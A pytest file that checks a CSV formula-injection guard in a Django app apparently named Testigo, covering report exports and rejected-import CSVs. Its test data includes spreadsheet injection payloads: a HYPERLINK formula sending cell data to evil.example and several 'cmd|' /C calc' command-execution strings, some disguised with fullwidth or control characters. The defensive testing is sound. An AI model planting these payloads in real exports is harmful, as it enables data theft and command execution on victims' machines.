"""Every CSV Testigo writes (report exports, survey answers, an import's rejected rows — header
included) goes through one formula guard, core/csvsafe.py: a cell a spreadsheet would run as a
formula is shown as text instead. Plain numbers and phone numbers stay numbers (see its docstring)."""

from __future__ import annotations

import csv
import io

import pytest

from testigo.core import csvsafe

DANGEROUS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\uff1dHYPERLINK(\"http://evil.example\")",  # fullwidth =
    "\uff0bcmd|' /C calc'!A0",  # fullwidth +
    "\uff0d1+A1",  # fullwidth -
    "\uff20SUM(A1)",  # fullwidth @
    "+A1",
    "-A1*2",
    "+1 (555) HYPERLINK",
    "-",
]
KEPT = ["-5", "-87.2", "+504 9999-0000", "-1,5", "+1/2", "Robo en mercado", "", "5-3", "a=b", "'quoted"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_promise_a_formula_is_shown_as_text(text):
    assert csvsafe.spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", KEPT)
def test_numbers_phone_numbers_and_plain_text_stay_as_they_are(text):
    assert csvsafe.spreadsheet_safe(text) == text


def test_the_writer_guards_headers_and_cells_but_not_numbers():
    out = io.StringIO()
    writer = csvsafe.writer(out)
    writer.writerow(["=header", "name"])
    writer.writerows([["@cell", -5, 2.5, None], ["ok", "-5", "+504 9999-0000", "=x"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=header", "name"], ["'@cell", "-5", "2.5", ""], ["ok", "-5", "+504 9999-0000", "'=x"]]


@pytest.mark.django_db
def test_promise_report_export_guards_cells_and_survey_headers(report_factory):
    from testigo.reports import exporters
    from testigo.reports.models import Report

    report_factory(title="\uff1dHYPERLINK(\"http://x\")", description="-2+3+cmd|' /C calc'!A0")
    export = exporters.Export(Report.objects.order_by("id"), public=False,
                              answers=[("=cmd|' /C calc'!A0", lambda values: "")])
    header, row = list(csv.reader(io.StringIO("".join(export.csv()))))
    assert header[-1] == "'=cmd|' /C calc'!A0"
    assert "'\uff1dHYPERLINK(\"http://x\")" in row and "'-2+3+cmd|' /C calc'!A0" in row


@pytest.mark.django_db
def test_promise_rejected_rows_csv_guards_the_files_own_header(admin_client, admin_user, settings):
    from testigo.surveys import importing

    settings.LANGUAGE_CODE = "en"
    data = "Título,=cmd|' /C calc'!A0\n,@SUM(1)\n".encode()  # no title: the row is rejected
    imp = importing.create_import(actor=admin_user, name="d.csv", data=data)
    importing.set_mapping(actor=admin_user, imp=imp, mapping_json={"columns": {"Título": "title"}})
    importing.run(import_id=imp.pk)
    imp.refresh_from_db()
    response = admin_client.get(f"/console/surveys/imports/{imp.pk}/rejected.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 2 and rows[0][2:] == ["Título", "'=cmd|' /C calc'!A0"]
    assert all(not cell.startswith(("=", "@", "+")) for row in rows for cell in row)
